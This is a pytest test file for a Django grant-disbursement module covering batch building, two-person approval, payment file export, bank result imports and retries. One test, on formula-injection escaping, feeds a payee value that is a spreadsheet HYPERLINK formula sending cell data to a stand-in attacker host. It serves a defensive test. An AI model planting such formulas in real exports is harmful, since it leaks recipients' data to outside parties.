"""Disbursement services: building batches, four-eyes approval, the payment file, the bank's
results (the check, the job that applies them, idempotence, row errors) and the retry of a failed
payment."""

import csv
import datetime as dt
import io
import threading
from decimal import Decimal

import pytest
from django.db import connection
from django.db.models import Sum
from django.utils import translation
from openpyxl import load_workbook

from accounts.models import Notification, OfficialRole
from applications.models import Application, Notice, Status
from audit.models import AuditEvent
from awards.models import Award
from budgets.models import Budget
from disbursement.models import DisbursementBatch, Payment, ResultsJob
from disbursement.payment_file import payment_file_csv, payment_file_xlsx
from disbursement.resources import read_results_file
from disbursement.results import (
    BankResult,
    Outcome,
    ResultsInvalid,
    payment_result_record,
    payment_results_check,
    results_job_run,
    results_job_start,
)
from disbursement.services import (
    DisbursementError,
    NotAllowed,
    NothingToPay,
    WrongState,
    batch_approve,
    batch_build,
    payment_file_open,
)
from measures.models import Department
from portal.spreadsheets import FORMULA_PREFIXES
from tests.factories import OfficialFactory, incentive_by_code
from tests.support.disbursement import (
    QUALITY_AWARD,
    STANDARD_LEAD,
    approved_batch,
    final_award,
    finance,
    paid_rows,
    results_csv,
    upload,
)

ENGLISH_HEADERS = (
    "payment reference",
    "payee",
    "bank",
    "account number",
    "amount",
    "application reference",
    "incentive",
)


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def officer(db):
    return finance("finance-1")


@pytest.fixture
def second(db):
    return finance("finance-2")


def check_file(actor, batch, content: bytes, *, name: str = "results.csv"):
    """The preview: what each row would do."""
    return payment_results_check(actor=actor, batch=batch, dataset=read_results_file(upload(content, name)))


def apply_file(actor, batch, content: bytes, *, name: str = "results.csv") -> ResultsJob:
    """Confirming: the file is checked and a job records its rows (the task, run here in-process)."""
    job = results_job_start(actor=actor, batch=batch, dataset=read_results_file(upload(content, name)), file_name=name)
    return results_job_run(job_id=job.pk)


# ── building ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.django_db
def test_a_batch_takes_final_awards_only_and_snapshots_the_payee(officer) -> None:
    payable = final_award("3000000")
    retry = final_award("1000000", application_status=Status.PAYMENT_FAILED)
    final_award("1000000", award_status=Award.Status.COMMITTED, application_status=Status.ANNOUNCED)
    final_award("1000000", application_status=Status.ANNOUNCED)
    no_account = final_award("500000", bank=False)

    built = batch_build(actor=officer)

    batch = built.batch
    assert batch.number.startswith("PF-") and batch.number.endswith("-0001")
    assert batch.status == DisbursementBatch.Status.DRAFT
    assert built.payments == 2 and built.total == Decimal("4000000.00")
    assert {p.award_id for p in batch.payments.all()} == {payable.pk, retry.pk}
    payment = batch.payments.get(award=payable)
    account = payable.application.applicant.bank_account
    assert (payment.payee_name, payment.bank_name, payment.account_number) == (
        account.account_name,
        account.bank_name,
        account.account_number,
    )
    assert payment.amount == payable.amount and payment.status == Payment.Status.PENDING
    assert [s.application for s in built.skipped] == [no_account.application.reference]
    event = AuditEvent.objects.get(action="disbursement.build")
    assert event.after["payments"] == 2 and event.after["skipped"] == [no_account.application.reference]

    # The awards in the batch wait for the bank: a second build finds nothing more to pay.
    with pytest.raises(NothingToPay) as nothing:
        batch_build(actor=officer)
    assert [s.application for s in nothing.value.skipped] == [no_account.application.reference]
    assert DisbursementBatch.objects.count() == 1


@pytest.mark.django_db
def test_a_batch_by_department_or_incentive(officer) -> None:
    award = final_award("3000000", code=QUALITY_AWARD)
    standard = final_award("500000", code=STANDARD_LEAD)
    benchmark_department = Department.objects.get(code="miit")  # measure 17's benchmark: no money

    by_incentive = batch_build(actor=officer, incentive=incentive_by_code(STANDARD_LEAD))
    assert [p.award_id for p in by_incentive.batch.payments.all()] == [standard.pk]
    with pytest.raises(NothingToPay):
        batch_build(actor=officer, department=benchmark_department)
    by_department = batch_build(actor=officer, department=Department.objects.get(code="amr"))
    assert [p.award_id for p in by_department.batch.payments.all()] == [award.pk]
    assert by_department.batch.number.endswith("-0002")


@pytest.mark.django_db
def test_only_finance_builds_and_approves() -> None:
    final_award()
    handler = OfficialFactory(role=OfficialRole.HANDLER)
    admin = OfficialFactory(role=OfficialRole.ADMINISTRATOR)
    for actor in (handler, admin):
        with pytest.raises(NotAllowed):
            batch_build(actor=actor)
    assert not DisbursementBatch.objects.exists()


# ── four-eyes ────────────────────────────────────────────────────────────────────────────────


@pytest.mark.django_db
def test_the_creator_cannot_approve_a_second_finance_officer_can(officer, second) -> None:
    final_award()
    batch = batch_build(actor=officer).batch

    with pytest.raises(NotAllowed, match="Another finance officer"):
        batch_approve(actor=officer, batch=batch)
    batch.refresh_from_db()
    assert batch.status == DisbursementBatch.Status.DRAFT and batch.approved_by is None

    approved = batch_approve(actor=second, batch=batch)
    assert approved.status == DisbursementBatch.Status.APPROVED
    assert approved.approved_by == second and approved.approved_at is not None
    assert AuditEvent.objects.filter(action="disbursement.approve", actor=second).count() == 1
    with pytest.raises(WrongState):
        batch_approve(actor=second, batch=batch)


# ── the payment file ─────────────────────────────────────────────────────────────────────────


@pytest.mark.django_db
def test_the_payment_file_needs_approval(officer) -> None:
    final_award()
    batch = batch_build(actor=officer).batch
    with pytest.raises(WrongState):
        payment_file_open(actor=officer, batch=batch, file_format="csv")


@pytest.mark.django_db
def test_payment_file_totals_equal_the_database_in_csv_and_xlsx(officer, second) -> None:
    for amount in ("3000000", "1000000", "123456.78", "0.01", "999999.99"):
        final_award(amount)
    batch = approved_batch(officer, second)
    expected = Payment.objects.filter(batch=batch).aggregate(total=Sum("amount"))["total"]
    assert expected == Decimal("5123456.78")

    text = "".join(payment_file_csv(payment_file_open(actor=officer, batch=batch, file_format="csv")))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert tuple(rows[0]) == ENGLISH_HEADERS
    assert len(rows) == 6
    assert sum(Decimal(r[4]) for r in rows[1:]) == expected
    by_reference = {p.reference: p for p in batch.payments.select_related("award__application")}
    for row in rows[1:]:
        payment = by_reference[row[0]]
        assert row[3] == payment.account_number
        assert row[5] == payment.award.application.reference

    handle = payment_file_xlsx(payment_file_open(actor=officer, batch=batch, file_format="xlsx"), title=batch.number)
    sheet = load_workbook(handle, read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert tuple(values[0]) == ENGLISH_HEADERS
    assert sum(Decimal(str(v[4])) for v in values[1:]) == expected
    assert all(isinstance(v[3], str) for v in values[1:])  # account numbers stay text
    assert AuditEvent.objects.filter(action="disbursement.payment_file").count() == 2


@pytest.mark.django_db
def test_formula_injection_is_neutralised_in_both_files(officer, second) -> None:
    payees = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A2)", "\tTAB", "正常企业"]
    for payee in payees:
        final_award(payee=payee)
    batch = approved_batch(officer, second)

    text = "".join(payment_file_csv(payment_file_open(actor=officer, batch=batch, file_format="csv")))
    csv_payees = {row[1] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))} - {"payee"}
    handle = payment_file_xlsx(payment_file_open(actor=officer, batch=batch, file_format="xlsx"), title=batch.number)
    workbook = load_workbook(handle)  # not read-only: the cell's type is checked too
    sheet = workbook.active
    xlsx_payees = {sheet.cell(row=r, column=2).value for r in range(2, sheet.max_row + 1)}
    types = {sheet.cell(row=r, column=2).data_type for r in range(2, sheet.max_row + 1)}

    for found in (csv_payees, xlsx_payees):
        assert found == {"'" + p if p.startswith(FORMULA_PREFIXES) else p for p in payees}
        assert not any(value.startswith(FORMULA_PREFIXES) for value in found)
    assert types == {"s"}  # no formula cell


# ── the bank's results ───────────────────────────────────────────────────────────────────────


@pytest.mark.django_db
def test_a_dry_run_reports_and_changes_nothing(officer, second) -> None:
    final_award()
    batch = approved_batch(officer, second)
    events = AuditEvent.objects.count()

    report = check_file(officer, batch, results_csv(paid_rows(batch)))

    assert report.valid and not report.applied
    assert [r.outcome for r in report.rows] == [Outcome.WILL_PAY]
    assert Payment.objects.get().status == Payment.Status.PENDING
    assert Budget.objects.get().paid == 0
    assert AuditEvent.objects.count() == events


@pytest.mark.django_db
def test_results_pay_and_fail_with_budget_workflow_notices_and_notifications(
    officer, second, django_capture_on_commit_callbacks
) -> None:
    paid_award = final_award("3000000")
    failed_award = final_award("1000000")
    batch = approved_batch(officer, second)
    budget = Budget.objects.get()
    assert (budget.committed, budget.paid) == (Decimal("4000000.00"), Decimal("0.00"))
    paid_payment = batch.payments.get(award=paid_award)
    failed_payment = batch.payments.get(award=failed_award)
    rows = [
        [paid_payment.reference, "PAID", "2026/11/02", "BK-778899", "", "3,000,000.00"],
        [failed_payment.reference, "failed", "", "", "账户已销户 (account closed)", ""],
    ]

    with django_capture_on_commit_callbacks(execute=True):
        job = apply_file(officer, batch, results_csv(rows))

    assert (job.status, job.done, job.total, job.progress) == (ResultsJob.Status.DONE, 2, 2, 100)
    assert (job.paid, job.failed, job.already, job.errors) == (1, 1, 0, [])
    paid_payment.refresh_from_db()
    failed_payment.refresh_from_db()
    assert paid_payment.status == Payment.Status.PAID
    assert (paid_payment.paid_on.isoformat(), paid_payment.bank_reference) == ("2026-11-02", "BK-778899")
    assert failed_payment.status == Payment.Status.FAILED
    assert failed_payment.failure_reason == "账户已销户 (account closed)"
    paid_award.refresh_from_db()
    failed_award.refresh_from_db()
    assert paid_award.status == Award.Status.PAID and paid_award.paid_at is not None
    assert failed_award.status == Award.Status.FINAL  # still committed: retried later
    budget.refresh_from_db()
    assert (budget.committed, budget.paid) == (Decimal("1000000.00"), Decimal("3000000.00"))
    assert Application.objects.get(pk=paid_award.application_id).status == Status.PAID
    assert Application.objects.get(pk=failed_award.application_id).status == Status.PAYMENT_FAILED
    batch.refresh_from_db()
    assert batch.status == DisbursementBatch.Status.CLOSED

    pay_event = AuditEvent.objects.get(action="application.pay")
    assert pay_event.after["payment_reference"] == paid_payment.reference
    assert pay_event.after["bank_reference"] == "BK-778899"
    assert AuditEvent.objects.filter(action="budget.pay").count() == 1
    assert AuditEvent.objects.filter(action="application.payment_fail").count() == 1
    assert AuditEvent.objects.filter(action="disbursement.results").count() == 1

    paid_note = Notification.objects.get(user__applicant=paid_award.application.applicant)
    assert "3,000,000.00" in paid_note.body and "paid" in paid_note.subject
    failed_note = Notification.objects.get(user__applicant=failed_award.application.applicant)
    assert "account closed" in failed_note.body and failed_note.link == "/accounts/profile/bank-account/"
    # The disbursement notice (拨付通知书), made after commit; none for the failed payment.
    notice = Notice.objects.get(kind=Notice.Kind.DISBURSEMENT)
    assert notice.application_id == paid_award.application_id
    assert notice.essentials["bank_reference"] == "BK-778899" and notice.essentials["amount"] == "3000000.00"


@pytest.mark.django_db
def test_the_same_results_file_imported_twice_pays_once(officer, second) -> None:
    final_award("3000000")
    final_award("2000000")
    batch = approved_batch(officer, second)
    content = results_csv(paid_rows(batch))

    first = apply_file(officer, batch, content)
    budget_after_first = Budget.objects.get()
    events = AuditEvent.objects.filter(action__startswith="application.").count()
    notifications = Notification.objects.count()
    second_import = apply_file(officer, batch, content)
    preview = check_file(officer, batch, content)

    assert (first.paid, first.already) == (2, 0)
    assert (second_import.paid, second_import.already, second_import.status) == (0, 2, ResultsJob.Status.DONE)
    assert [r.outcome for r in preview.rows] == [Outcome.ALREADY_APPLIED] * 2
    assert Payment.objects.filter(status=Payment.Status.PAID).count() == 2
    budget = Budget.objects.get()
    assert budget.paid == Decimal("5000000.00") == budget_after_first.paid
    assert budget.committed == 0
    assert AuditEvent.objects.filter(action__startswith="application.").count() == events  # nothing paid again
    assert Notification.objects.count() == notifications


@pytest.mark.django_db
def test_import_errors_name_the_row_and_the_field_and_nothing_is_applied(officer, second) -> None:
    final_award("3000000")
    final_award("1000000")
    batch = approved_batch(officer, second)
    first, other = batch.payments.order_by("reference")
    rows = [
        [first.reference, "paid", "2026-11-02", "BK1", "", "3000000.00"],  # line 2: fine
        ["PF-2026-9999-00001", "paid", "2026-11-02", "BK2", "", ""],  # line 3: unknown reference
        [other.reference, "paid", "31/11/2026", "BK3", "", ""],  # line 4: bad date
        [other.reference, "done", "2026-11-02", "BK4", "", ""],  # line 5: twice; status not paid/failed
        [first.reference, "paid", "2026-11-02", "BK5", "", ""],  # line 6: twice
    ]
    content = results_csv(rows)
    lines = content.decode().splitlines()
    lines.insert(2, ",,,,,")  # a blank line (line 3) is skipped, the numbering keeps to the file
    content = "\n".join(lines).encode()

    with pytest.raises(ResultsInvalid) as invalid:
        apply_file(officer, batch, content)
    report = invalid.value.report

    assert not report.valid and not report.applied and not ResultsJob.objects.exists()
    errors = {(r.row, field): messages for r in report.rows for field, messages in r.errors.items()}
    assert set(errors) == {
        (4, "payment_reference"),
        (5, "paid_date"),
        (6, "payment_reference"),
        (7, "payment_reference"),
    }
    assert "There is no payment PF-2026-9999-00001" in errors[(4, "payment_reference")][0]
    assert "31/11/2026" in errors[(5, "paid_date")][0]
    assert "already in row 5" in errors[(6, "payment_reference")][0]
    assert "already in row 2" in errors[(7, "payment_reference")][0]
    assert report.rows[0].outcome == Outcome.WILL_PAY  # would have been fine
    assert not Payment.objects.filter(status=Payment.Status.PAID).exists()
    assert Budget.objects.get().paid == 0

    more = results_csv(
        [
            [first.reference, "done", "", "", "", ""],
            [other.reference, "paid", "2026-11-02", "BK", "", "999.00"],
            [first.reference, "paid", "2999-01-01", "", "", ""],
        ]
    )
    report = check_file(officer, batch, more)
    errors = {(r.row, field): messages for r in report.rows for field, messages in r.errors.items()}
    assert "“done” is not a status: enter “paid” or “failed”." in errors[(2, "status")]
    assert "The amount 999.00 differs from the payment's 1,000,000.00 CNY." in errors[(3, "amount")]
    assert "already in row 2" in errors[(4, "payment_reference")][0]

    missing = check_file(officer, batch, results_csv([[first.reference, "paid", "2999-01-01", "", "", ""]]))
    errors = missing.rows[0].errors
    assert "is in the future" in errors["paid_date"][0]
    assert "Enter the bank's reference" in errors["bank_reference"][0]
    failed_without_reason = check_file(officer, batch, results_csv([[first.reference, "failed", "", "", "", ""]]))
    assert "failure_reason" in failed_without_reason.rows[0].errors


@pytest.mark.django_db
def test_a_file_without_the_required_columns_is_refused_whole(officer, second) -> None:
    from disbursement.services import DisbursementError

    final_award()
    batch = approved_batch(officer, second)
    with pytest.raises(DisbursementError, match="no column “status”"):
        check_file(officer, batch, results_csv([["x"]], header=["payment reference", "result code"]))
    with pytest.raises(DisbursementError, match="not a valid XLSX"):
        check_file(officer, batch, b"PK\x03\x04garbage", name="results.xlsx")


@pytest.mark.django_db
def test_results_in_xlsx_with_chinese_headings(officer, second) -> None:
    from openpyxl import Workbook

    final_award("3000000")
    batch = approved_batch(officer, second)
    payment = batch.payments.get()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["付款参考号", "状态", "支付日期", "银行流水号", "失败原因", "金额"])
    import datetime as dt

    sheet.append([payment.reference, "paid", dt.datetime(2026, 11, 2), "BK-1", None, 3000000])
    out = io.BytesIO()
    workbook.save(out)

    job = apply_file(officer, batch, out.getvalue(), name="银行回单.xlsx")

    assert (job.paid, job.file_name) == (1, "银行回单.xlsx")
    payment.refresh_from_db()
    assert payment.paid_on.isoformat() == "2026-11-02"


@pytest.mark.django_db
def test_a_recorded_result_never_flips(officer, second) -> None:
    final_award()
    batch = approved_batch(officer, second)
    reference = batch.payments.get().reference
    apply_file(officer, batch, results_csv([[reference, "failed", "", "", "户名不符", ""]]))

    with pytest.raises(ResultsInvalid) as invalid:
        apply_file(officer, batch, results_csv([[reference, "paid", "2026-11-02", "BK", "", ""]]))

    assert "already recorded as “Failed”" in invalid.value.report.rows[0].errors["status"][0]
    assert Payment.objects.get().status == Payment.Status.FAILED
    assert Budget.objects.get().paid == 0


@pytest.mark.django_db
def test_a_failed_payment_is_retried_in_a_new_batch_after_the_payee_fixes_the_account(officer, second) -> None:
    award = final_award("3000000")
    first_batch = approved_batch(officer, second)
    first_payment = first_batch.payments.get()
    apply_file(officer, first_batch, results_csv([[first_payment.reference, "failed", "", "", "账号错误", ""]]))
    account = award.application.applicant.bank_account
    account.account_number = "6217000011112222333"
    account.save()

    retry = batch_build(actor=second)
    batch_approve(actor=officer, batch=retry.batch)
    retry_payment = retry.batch.payments.get()
    assert retry_payment.award_id == award.pk
    assert retry_payment.account_number == "6217000011112222333"
    apply_file(officer, retry.batch, results_csv(paid_rows(retry.batch)))

    assert Payment.objects.filter(award=award, status=Payment.Status.PAID).count() == 1
    assert Payment.objects.get(pk=first_payment.pk).status == Payment.Status.FAILED
    assert Application.objects.get(pk=award.application_id).status == Status.PAID
    budget = Budget.objects.get()
    assert (budget.committed, budget.paid) == (Decimal("0.00"), Decimal("3000000.00"))
    # Paid: never in a batch again.
    with pytest.raises(NothingToPay):
        batch_build(actor=officer)


@pytest.mark.django_db
def test_results_need_an_approved_batch(officer) -> None:
    final_award()
    batch = batch_build(actor=officer).batch
    with pytest.raises(WrongState):
        check_file(officer, batch, results_csv(paid_rows(batch)))


# ── concurrency (PostgreSQL) ─────────────────────────────────────────────────────────────────


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_runs_of_one_results_job_record_each_row_once() -> None:
    """A task may run twice at once (acks late, a worker lost): each row is recorded once, the
    job's progress counts each row once."""
    officer, second = finance("finance-1"), finance("finance-2")
    final_award("3000000")
    final_award("2000000")
    batch = approved_batch(officer, second)
    job = results_job_start(
        actor=officer, batch=batch, dataset=read_results_file(upload(results_csv(paid_rows(batch))))
    )
    barrier = threading.Barrier(2)
    failures: list[BaseException] = []

    def run() -> None:
        try:
            barrier.wait(timeout=30)
            results_job_run(job_id=job.pk)
        except BaseException as error:
            failures.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert not failures
    job.refresh_from_db()
    assert (job.status, job.done, job.paid, job.already) == (ResultsJob.Status.DONE, 2, 2, 0)
    assert Payment.objects.filter(status=Payment.Status.PAID).count() == 2
    budget = Budget.objects.get()
    assert (budget.committed, budget.paid) == (Decimal("0.00"), Decimal("5000000.00"))
    assert AuditEvent.objects.filter(action="application.pay").count() == 2
    assert AuditEvent.objects.filter(action="disbursement.results").count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_headings_the_results_page_shows_are_accepted(officer, second, language: str) -> None:
    from django.utils import translation

    from disbursement.resources import COLUMN_LABELS

    final_award("3000000")
    batch = approved_batch(officer, second)
    payment = batch.payments.get()
    columns = ["payment_reference", "status", "paid_date", "bank_reference"]
    with translation.override(language):
        headings = [str(COLUMN_LABELS[c]) for c in columns]
    content = ",".join(headings) + f"\n{payment.reference},paid,2026-11-02,BK-9\n"

    report = check_file(officer, batch, content.encode())

    assert [r.outcome for r in report.rows] == [Outcome.WILL_PAY], headings


IN_THREE_DAYS = dt.date.today() + dt.timedelta(days=3)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("result", "field", "words"),
    [
        (BankResult(status="paid", bank_reference="BK1"), "paid_date", "Enter the date"),
        (
            BankResult(status="paid", paid_on=dt.date.today() + dt.timedelta(days=3), bank_reference="B"),
            "paid_date",
            "future",
        ),
        (BankResult(status="paid", paid_on=dt.date(2026, 11, 2)), "bank_reference", "reference"),
        (BankResult(status="failed"), "failure_reason", "reason"),
        (
            BankResult(status="paid", paid_on=dt.date(2026, 11, 2), bank_reference="B", amount=Decimal("1")),
            "amount",
            "differs",
        ),
    ],
)
def test_the_bank_results_rules_hold_whoever_records_a_result(officer, second, result, field, words) -> None:
    """The rules the import shows per row are the service's: recording a result directly obeys them too."""
    final_award("3000000")
    payment = approved_batch(officer, second).payments.get()
    with pytest.raises(DisbursementError) as refused:
        payment_result_record(actor=officer, payment_id=payment.pk, result=result)
    assert refused.value.field == field and words in refused.value.message
    payment.refresh_from_db()
    assert payment.status == Payment.Status.PENDING
    assert Budget.objects.get().paid == 0


@pytest.mark.django_db
def test_a_draft_batch_is_discarded_with_a_reason_and_its_awards_wait_for_the_next(officer, second) -> None:
    from disbursement.services import batch_discard

    award = final_award("3000000")
    draft = batch_build(actor=officer).batch
    with pytest.raises(DisbursementError) as no_reason:
        batch_discard(actor=second, batch=draft, reason=" ")
    assert no_reason.value.field == "reason"
    discarded = batch_discard(actor=second, batch=draft, reason="收款账户待核实")
    assert discarded.status == DisbursementBatch.Status.DISCARDED
    assert list(draft.payments.values_list("status", flat=True)) == [Payment.Status.CANCELLED]
    assert AuditEvent.objects.filter(action="disbursement.discard", reason="收款账户待核实").exists()
    assert AuditEvent.objects.filter(action="payment.cancel").count() == 1
    rebuilt = batch_build(actor=officer).batch  # the award is payable again
    assert list(rebuilt.payments.values_list("award_id", flat=True)) == [award.pk]
    batch_approve(actor=second, batch=rebuilt)
    with pytest.raises(WrongState):  # an approved batch went to the bank: it is never discarded
        batch_discard(actor=officer, batch=rebuilt, reason="x")
    assert DisbursementBatch.objects.get(pk=rebuilt.pk).status == DisbursementBatch.Status.APPROVED
